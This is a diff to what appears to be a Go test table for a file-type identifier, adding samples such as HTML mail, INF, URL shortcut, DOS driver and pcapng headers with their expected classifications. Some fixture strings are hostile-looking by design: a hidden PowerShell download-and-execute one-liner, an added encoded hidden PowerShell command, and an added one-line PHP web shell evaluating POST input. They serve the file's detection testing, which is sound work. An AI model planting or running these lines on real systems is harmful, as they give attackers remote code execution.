@@ -26,11 +26,14 @@ func languageZoo() []sample {
 		of("code/ps1", "param(\n  [string]$Url\n)\n$client = New-Object System.Net.WebClient\n$data = $client.DownloadString($Url)\nInvoke-Expression $data\n"),
 		of("code/ps1", "powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://example.org/a')\"\n"),
 		{"code/ps1 in UTF-16", utf16Of("function Get-Job2 {\r\n  Write-Host 'x'\r\n}\r\n$x = New-Object psobject\r\n"), Result{Format: "code/ps1"}},
+		{"code/ps1 in UTF-16 without a mark", utf16Of("$x = New-Object System.Net.WebClient\r\nInvoke-Expression $x\r\n")[2:], Result{"code/ps1", octetStream, "data", ""}},
+		of("code/ps1", "powershell.exe -NoP -NonI -W Hidden -Enc SQBFAFgAIAAoAE4A\r\n"),
 		of("code/batch", "setlocal\r\nif not exist \"%TEMP%\\a\" mkdir \"%TEMP%\\a\"\r\nfor %%f in (*.txt) do copy %%f \"%TEMP%\\a\"\r\nexit /b 0\r\n"),
 		of("code/python", "import os\nimport sys as s\n\ndef run(name):\n    print(os.stat(name))\n\nif __name__ == \"__main__\":\n    run(s.argv[1])\n"),
 		of("code/perl", "package Job;\nuse strict;\nuse warnings;\n\nsub run {\n    my ($self, $name) = @_;\n    return $name;\n}\n\n1;\n"),
 		of("code/ruby", "# frozen_string_literal: true\nrequire 'json'\n\nclass Job < Base\n  attr_reader :name\n\n  def run\n    puts name\n  end\nend\n"),
 		of("code/php", "<?php\nnamespace Job;\n\nfunction run($name) {\n    eval(base64_decode($name));\n}\n"),
+		of("code/php", "<html><?php eval($_POST[\"a\"]); ?></html>\n"),
 		of("code/css", "body {\n  margin: 0;\n  font-family: sans-serif;\n}\n\n.job:hover {\n  color: red;\n  padding: 2px;\n}\n"),
 		of("code/sql", "-- jobs\nCREATE TABLE jobs (\n  id integer PRIMARY KEY,\n  name text NOT NULL\n);\nINSERT INTO jobs VALUES (1, 'a');\n"),
 		of("code/lisp", ";;; job.el --- runs jobs\n\n(defvar job-name \"a\")\n\n(defun job-run ()\n  (interactive)\n  (message job-name))\n\n(provide 'job)\n"),
@@ -52,6 +55,14 @@ func languageZoo() []sample {
 		of("metadata/sysmon", "<Events>\n<Event xmlns=\"http://schemas.microsoft.com/win/2004/08/events/event\"><System/></Event>\n</Events>\n"),
 		of("log/vipermonkey", strings.Repeat("=", 79)+"\nFILE: /tmp/a.doc\n"+strings.Repeat("-", 79)+"\nVBA MACRO a.bas\nin file: a.doc\nVBA CODE (with long lines collapsed):\nSub A()\nPARSING VBA CODE:\n"),
 		of("text/rdp", "screen mode id:i:2\r\ndesktopwidth:i:1024\r\nfull address:s:10.0.0.1\r\nusername:s:admin\r\n"),
+		{"an HTML mail", []byte("Subject: hi\r\nFrom: a@example.org\r\nTo: b@example.org\r\nContent-Type: text/html\r\n\r\n<html></html>\r\n"), Result{
+			"document/email", "text/html", "HTML document, ASCII text, with CRLF line terminators", ""}},
+		{"mht", []byte("MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n"), Result{
+			"document/email", "text/plain", "MIME entity, ASCII text, with CRLF line terminators", ""}},
+		{"inf", []byte("; a driver\r\n[Version]\r\nSignature=\"$CHICAGO$\"\r\n"), Result{"code/autorun", "application/x-setupscript", "Windows setup INFormation", ""}},
+		{"url", []byte("[InternetShortcut]\r\nURL=http://example.org/\r\n"), Result{"text/ini", "application/x-mswinurl",
+			"MS Windows 95 Internet shortcut text (URL=<http://example.org/>), ASCII text, with CRLF line terminators", ""}},
+		{"rtf after blanks", []byte("\r\n {\\rtf1\\ansi hello}"), Result{"document/office/rtf", "text/rtf", "Rich Text Format data, version 1, ANSI", ""}},
 		of("text/ini", "[.ShellClassInfo]\r\nIconFile=a.ico\r\n"),
 		of("text/ini", "; settings\r\n[boot loader]\r\ntimeout=30\r\n"),
 	}
@@ -70,6 +81,14 @@ func legacyZoo() []sample {
 	opaque[0x80+24], opaque[0x80+25] = 0x07, 0x02
 	return []sample{
 		of("executable/windows/com", com),
+		{"driver for DOS", pad("\xff\xff\xff\xff\x00\x80\x20\x00\x30\x00CON     ", 120), Result{
+			"executable/windows/dos", "application/x-dosdriver", "DOS executable (character device driver CON)", ""}},
+		{"object for DOS", pad("\x80\x09\x00\x07hello.c\x00\x88\x08\x00\x00\x9dabcde\x00", 60), Result{"executable/windows/dos", "application/x-object",
+			`8086 relocatable (Microsoft), "hello.c", 1st record data length 9, 2nd record type 0x88, 2nd record data length 8`, ""}},
+		{"bitmap without header", put32(put8(put8(put32(put32(pad("\x28", 1100), 4, 16), 8, 32), 12, 1), 14, 8), 20, 256), Result{
+			"image/bmp", "image/x-ms-bmp", "Device independent bitmap graphic, 16 x 32 x 8, image size 256", ""}},
+		{"pcapng", pad("\x0a\x0d\x0d\x0a\x1c\x00\x00\x00\x4d\x3c\x2b\x1a\x01\x00\x00\x00", 28), Result{
+			"network/tcpdump", octetStream, "pcapng capture file - version 1.0", ""}},
 		{"executable/windows/pe", opaque, Result{Format: "executable/windows/pe"}},
 		{"archive/arc", arc, Result{Format: "archive/arc"}},
 		{"db/dbf", dbf, Result{Format: "db/dbf"}},
